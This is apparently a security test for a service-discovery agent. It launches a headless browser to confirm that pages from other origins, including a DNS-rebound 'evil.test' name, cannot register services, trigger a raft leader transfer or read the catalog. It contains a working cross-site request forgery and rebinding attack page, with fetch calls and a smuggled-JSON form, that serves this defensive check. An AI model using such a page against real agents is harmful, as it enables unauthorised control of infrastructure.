import { spawn } from 'node:child_process'
import { createServer, request } from 'node:http'
import type { IncomingMessage, Server, ServerResponse } from 'node:http'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import t from 'tap'
import type { Test } from 'tap'
import { must } from '../../src/base/assert.ts'
import { AgentProcess } from '../helpers/agent-process.ts'
import { browserFile, noBrowser } from '../helpers/browser-file.ts'

// Pages of other origins in a real browser, on the machine of an agent.

/** What a page's script came to: the text that each attempt read, or the error that it met. */
type Tried = Readonly<Record<string, string>>

/**
 * A server that serves `/page`, takes `/report`, and hands all else to the agent as it came. A page
 * of it that was loaded under another name is what DNS rebinding makes: the name first led to a
 * stranger's page and now leads to the agent.
 */
class Front {
  readonly passed: string[] = []
  readonly #server: Server
  #onReport = (_tried: Tried): void => {}
  page = ''
  port = 0

  constructor(agentPort: number) {
    this.#server = createServer((asked, answer) => void this.#take(asked, answer, agentPort))
  }

  async listen(): Promise<this> {
    await new Promise<void>((resolve) => {
      this.#server.listen(0, '127.0.0.1', resolve)
    })
    this.port = (this.#server.address() as { port: number }).port
    return this
  }

  reported(): Promise<Tried> {
    return new Promise((resolve) => {
      this.#onReport = resolve
    })
  }

  close(): void {
    this.#server.close()
    this.#server.closeAllConnections()
  }

  async #take(asked: IncomingMessage, answer: ServerResponse, port: number): Promise<void> {
    const { method = '', url = '', headers } = asked
    if (url === '/page') return void answer.setHeader('Content-Type', 'text/html').end(this.page)
    if (url === '/report') {
      answer.end()
      return this.#onReport(JSON.parse(await text(asked)) as Tried)
    }
    const onward = request({ host: '127.0.0.1', port, method, path: url, headers }, (reply) => {
      this.passed.push(`${method} ${url} ${reply.statusCode}`)
      answer.writeHead(reply.statusCode ?? 500, reply.headers)
      reply.pipe(answer)
    })
    asked.pipe(onward)
  }
}

/** Opens a page in a browser of its own until it has reported. */
async function visit(t: Test, url: string, reported: Promise<Tried>): Promise<Tried> {
  const profile = mkdtempSync(join(tmpdir(), 'svcd-browser-'))
  const browser = spawn(
    must(browserFile),
    [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--disable-dev-shm-usage',
      `--user-data-dir=${profile}`,
      '--host-resolver-rules=MAP evil.test 127.0.0.1',
      // Keeps it alive until it is ended.
      '--remote-debugging-port=0',
      url,
    ],
    { stdio: 'ignore', detached: true },
  )
  const ended = new Promise<void>((resolve) => {
    browser.once('exit', () => resolve())
  })
  const gone = ended.then(() => Promise.reject(new Error('the browser ended before it reported')))
  try {
    return await Promise.race([reported, gone])
  } finally {
    gone.catch(() => {})
    // Its group: it has processes of its own.
    process.kill(-(browser.pid ?? 0), 'SIGKILL')
    await ended
    t.teardown(() => rmSync(profile, { recursive: true, force: true, maxRetries: 5 }))
  }
}

/** A page that tries all it can against the agent at `base` and tells `reportTo` what came of it. */
function page(base: string, reportTo: string): string {
  const service = JSON.stringify(JSON.stringify({ Name: 'evil', Port: 1 }))
  return `<!doctype html><meta charset="utf-8"><iframe name="hidden"></iframe>
<form id="form" target="hidden" method="post" enctype="text/plain"
  action="${base}/v1/operator/raft/transfer-leader"><input name='{"a":"' value='"}'></form>
<script>
const base = ${JSON.stringify(base)}
const tried = {}
const attempt = async (what, path, options) => {
  try {
    const reply = await fetch(base + path, options)
    tried[what] = reply.type + ' ' + reply.status + ' ' + (await reply.text()).slice(0, 200)
  } catch (error) { tried[what] = String(error) }
}
const form = () => new Promise((resolve) => {
  document.querySelector('iframe').onload = resolve
  setTimeout(resolve, 3000)
  document.getElementById('form').submit()
})
const register = '/v1/agent/service/register'
const all = async () => {
  await attempt('put', register, { method: 'PUT', body: ${service} })
  await attempt('put no-cors', register, { method: 'PUT', mode: 'no-cors', body: ${service} })
  await attempt('post text', register,
    { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: ${service} })
  await attempt('transfer', '/v1/operator/raft/transfer-leader', { method: 'POST', mode: 'no-cors' })
  await form()
  await attempt('read', '/v1/catalog/services', {})
  await attempt('read no-cors', '/v1/catalog/services', { mode: 'no-cors' })
  await fetch(${JSON.stringify(reportTo)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(tried) })
}
all()
</script>`
}

interface Case {
  readonly what: string
  /** Of the page, of which the port is the attacker's or, after rebinding, the agent's. */
  readonly host: string
  readonly isRebound: boolean
}

const strangers: readonly Case[] = [
  { what: 'another port of this machine', host: '127.0.0.1', isRebound: false },
  { what: 'another site', host: 'evil.test', isRebound: false },
  { what: 'a name that was rebound to the agent', host: 'evil.test', isRebound: true },
]

t.test(
  'a page of another origin in a browser registers nothing, moves nothing and reads nothing',
  { skip: noBrowser, timeout: 180_000 },
  async (t) => {
    const agent = await AgentProcess.start()
    const front = await new Front(agent.httpPort).listen()
    const other = await new Front(agent.httpPort).listen()
    t.teardown(async () => {
      front.close()
      other.close()
      await agent.stop()
    })
    await agent.put('agent/service/register', { Name: 'hidden-service' })
    const base = `http://127.0.0.1:${front.port}`
    for (const { what, host, isRebound } of strangers) {
      const home = isRebound ? front : other
      const target = isRebound ? '' : base
      home.page = page(target, `http://127.0.0.1:${other.port}/report`)
      front.passed.length = 0
      const tried = await visit(t, `http://${host}:${home.port}/page`, other.reported())
      t.comment(JSON.stringify({ tried, passed: front.passed }))
      const writes = front.passed.filter((line) => /^(?:PUT|POST) /.test(line))
      t.ok(writes.length > 0, `${what}: some writes reach the agent`)
      t.strictSame([...new Set(writes.map((line) => line.slice(-3)))], ['403'], 'and are refused')
      t.notMatch(Object.values(tried).join(), 'hidden-service', 'it reads nothing')
      t.notOk('evil' in (await agent.get<object>('agent/services')), 'nothing is registered')
    }
    front.page = page('', `http://127.0.0.1:${other.port}/report`)
    const tried = await visit(t, `${base}/page`, other.reported())
    t.match(tried['put'], /^basic 200 /, 'a page of the agent itself registers')
    t.match(tried['read'], /^basic 200 .*hidden-service/, 'and reads')
    t.ok('evil' in (await agent.get<object>('agent/services')), 'and it is done')
  },
)
